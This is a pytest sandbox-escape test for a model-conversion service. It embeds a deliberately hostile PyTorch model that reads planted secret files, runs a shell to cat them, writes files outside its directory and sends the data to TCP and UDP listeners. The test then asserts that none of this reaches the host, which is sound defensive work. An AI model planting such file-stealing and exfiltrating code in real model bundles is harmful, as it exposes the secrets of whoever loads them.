"""Attacks on the host from model code while the openvino target converts the eager model (the
`build_openvino` op: OpenVINO's PyTorch frontend builds the uploaded model and traces its forward).
The model reads canaries outside the box, writes outside its working directory, runs a shell and
connects to sockets this test listens on, and tries to carry whatever it got out through every
channel it has; none of it may reach the host. Run in the real sandbox (bubblewrap). What the model
records of its own attempts is only evidence that they ran: a write under /tmp succeeds there (into
the box's own tmpfs) and a datagram to 127.0.0.1 is sent (on the box's own loopback), so what counts
is checked on the host."""

from __future__ import annotations

import json
import socket
import tempfile
import uuid
from pathlib import Path

import pytest

from service import boundary
from workers import engine

pytestmark = pytest.mark.skipif(not boundary.available(), reason=f"no isolation here: {boundary._probe()}")

# The attacks run only inside OpenVINO's conversion of the eager model (`_eager_ir` on the stack), once
# in the model's __init__ (the bundle's build_model called by the op) and once in forward (traced by
# ov.convert_model); the other ops that run model code (load, export) have tests of their own.
MODEL = r"""
import json, os, shlex, socket, subprocess, sys

import torch
from torch import nn

PLAN = json.loads(%(plan)r)
MARK = "written by the model\n"
_DONE = set()


def _converting() -> bool:
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_name == "_eager_ir":
            return True
        frame = frame.f_back
    return False


def _attack(phase: str) -> list:
    if phase in _DONE or not _converting():
        return []
    _DONE.add(phase)
    got, leaked = {}, []
    for path in PLAN["read"]:
        try:
            with open(path) as f:
                leaked.append(f.read())
            got["read " + path] = "ok"
        except OSError as exc:
            got["read " + path] = type(exc).__name__
    quoted = " ".join(map(shlex.quote, PLAN["read"]))
    shell = subprocess.run(["/bin/sh", "-c", f"cat {quoted} 2>/dev/null"], capture_output=True, text=True, timeout=30)
    leaked.append(shell.stdout)
    # writes: a path under /tmp may be written inside the box (its own /tmp), which the host never sees
    for path in PLAN["write"]:
        try:
            with open(path, "a") as f:
                f.write(MARK)
            got["write " + path] = "ok"
        except OSError as exc:
            got["write " + path] = type(exc).__name__
    subprocess.run(["/bin/sh", "-c", f"echo {MARK.strip()} > {shlex.quote(PLAN['shell_marker'])}"], timeout=30)
    leaked = [text.replace(MARK, "") for text in leaked]  # not what this model wrote itself
    payload = ("leak " + phase + " " + "".join(leaked)).encode()
    for host, port in PLAN["tcp"]:
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                s.sendall(payload)
            got[f"tcp {host}:{port}"] = "ok"
        except OSError as exc:
            got[f"tcp {host}:{port}"] = f"{type(exc).__name__} {exc.strerror}"
    for host, port in PLAN["udp"]:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(payload, (host, port))
            got[f"udp {host}:{port}"] = "ok"
        except OSError as exc:
            got[f"udp {host}:{port}"] = f"{type(exc).__name__} {exc.strerror}"
    leaked = [text for text in leaked if text]
    print("attack", phase, json.dumps(got), "leaked:", leaked, flush=True)  # into the op's log
    with open(PLAN["record"], "a") as f:  # in the op's working directory
        f.write(json.dumps({"phase": phase, "got": got, "leaked": leaked}) + "\n")
    return leaked


class Attacker(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.fc = nn.Linear(4, 4)
        self.leaked = _attack("init")

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        leaked = self.leaked + _attack("forward")
        if leaked:  # the conversion's error lands in the candidate's notes, and so in the report
            raise RuntimeError("leaked: " + " ".join(leaked))
        return self.fc(x)


def build_model() -> nn.Module:
    return Attacker()
"""

SIGNATURE = {"inputs": ["x:float32[batch,4]"], "outputs": ["y"], "dims": {"batch": [1, 2, 2]}}


def _host_address() -> str | None:
    """This host's address on its default route (the box's loopback is its own), if it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("10.255.255.255", 1))  # picks a source address; sends nothing
            address = s.getsockname()[0]
        except OSError:
            return None
    return None if address.startswith("127.") else address


@pytest.fixture
def canaries(tmp_path):
    """Secrets where the worker keeps its own: its temporary directory, its home, a data directory,
    and the directory the upload came from. Yields (the name in their paths, the secret in them,
    {path: its secret})."""
    name, token = f"kiln-canary-{uuid.uuid4().hex}", f"s3cret-{uuid.uuid4().hex}"  # the model's source names paths
    paths = [
        Path(tempfile.gettempdir()) / f"{name}.txt",
        Path.home() / f".{name}",
        tmp_path / "data" / "admin-token",
        tmp_path / "secret.txt",
    ]
    found = {}
    try:
        for i, path in enumerate(paths):
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(f"{token}-{i}")
            found[path] = f"{token}-{i}"
        yield name, token, found
    finally:
        for path in paths:
            path.unlink(missing_ok=True)


def test_model_code_run_by_openvino_conversion_cannot_reach_the_host(tmp_path, canaries):
    name, token, secrets = canaries
    out = tmp_path / "out"
    bundle_name = "ov_attack.py"
    record = out / ".work" / "sandbox" / "ov-attack.jsonl"  # the op's working directory (engine.prepare)
    victims = [
        tmp_path / "pwned.txt",  # beside the upload
        out / "pwned.txt",  # the artifact directory, outside the work directory
        out / ".work" / "pwned.txt",  # the conversion's work directory, outside the op's (read-only there)
        Path(tempfile.gettempdir()) / f"{name}-pwned",
        Path.home() / f".{name}-pwned",
        out / ".work" / "bundle" / bundle_name,  # the model's own source, which later steps import
        next(iter(secrets)),  # an existing file of the host: the canary in the host's /tmp
    ]
    shell_marker = tmp_path / "shell-pwned"
    listeners = []
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("0.0.0.0", 0))
    tcp.listen(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("0.0.0.0", 0))
    listeners += [tcp, udp]
    hosts = ["127.0.0.1", *filter(None, [_host_address()])]
    plan = {
        "read": [str(p) for p in secrets],
        "write": [str(p) for p in victims],
        "shell_marker": str(shell_marker),
        "tcp": [[h, tcp.getsockname()[1]] for h in hosts],
        "udp": [[h, udp.getsockname()[1]] for h in hosts],
        "record": str(record),
    }
    bundle = tmp_path / bundle_name
    bundle.write_text(MODEL % {"plan": json.dumps(plan)})
    try:
        ctx = engine.convert(
            bundle,
            out,
            entry="ov_attack.py:build_model",
            signature=SIGNATURE,
            options={
                "targets": ["openvino"],
                "precisions": ["fp32"],
                "threads": 1,
                "bench_seconds": 0.05,
                "batch_sizes": [1, 2],
            },
        )
        assert ctx.environment.get("isolation") == "bubblewrap", ctx.environment

        # the attacks ran, inside the op, in the model's __init__ and in its traced forward
        attempts = [json.loads(line) for line in record.read_text().splitlines()] if record.exists() else []
        assert sorted(a["phase"] for a in attempts) == ["forward", "init"], (attempts, _step_errors(ctx))
        first = next(a for a in attempts if a["phase"] == "init")  # before the box wrote anything of its own
        assert [how for what, how in first["got"].items() if what.startswith("read ")] == ["FileNotFoundError"] * len(
            secrets
        ), first
        for attempt in attempts:
            assert attempt["leaked"] == [] and token not in json.dumps(attempt), attempt
            assert [how for what, how in attempt["got"].items() if what.startswith("tcp ") and how == "ok"] == []

        # nothing reached the host: no file written outside the work directory, none changed
        for path, secret in secrets.items():
            assert path.read_text() == secret, path
        for victim in victims[:-2]:
            assert not victim.exists(), victim
        assert (ctx.work / "bundle" / bundle.name).read_text() == bundle.read_text()
        assert not shell_marker.exists()

        # no connection and no datagram arrived, on loopback or on the host's own address
        for sock in listeners:
            sock.setblocking(False)
        with pytest.raises(BlockingIOError):
            conn, peer = tcp.accept()
            conn.close()
            pytest.fail(f"the box connected from {peer}")
        with pytest.raises(BlockingIOError):
            data, peer = udp.recvfrom(1 << 16)
            pytest.fail(f"the box sent {data[:80]!r} from {peer}")

        # no secret in the IR, the report, the op's log or any file the model or the worker wrote
        leaks = [p for p in out.rglob("*") if p.is_file() and not p.is_symlink() and token.encode() in p.read_bytes()]
        assert leaks == []
        cand = next(c for c in ctx.candidates if c.id == "openvino-fp32")
        assert cand.passed, (cand.status, cand.reason, cand.notes)
        assert (out / "openvino-fp32" / "model.xml").is_file() and (out / "openvino-fp32" / "model.bin").is_file()
        assert token not in json.dumps(ctx.model_dump(mode="json"), default=str)
    finally:
        for sock in listeners:
            sock.close()
        for victim in victims:
            if victim.parent in (tmp_path, Path(tempfile.gettempdir()), Path.home()) and victim not in secrets:
                victim.unlink(missing_ok=True)


def _step_errors(ctx) -> dict:
    return {s.name: (s.status, s.error) for s in ctx.steps}
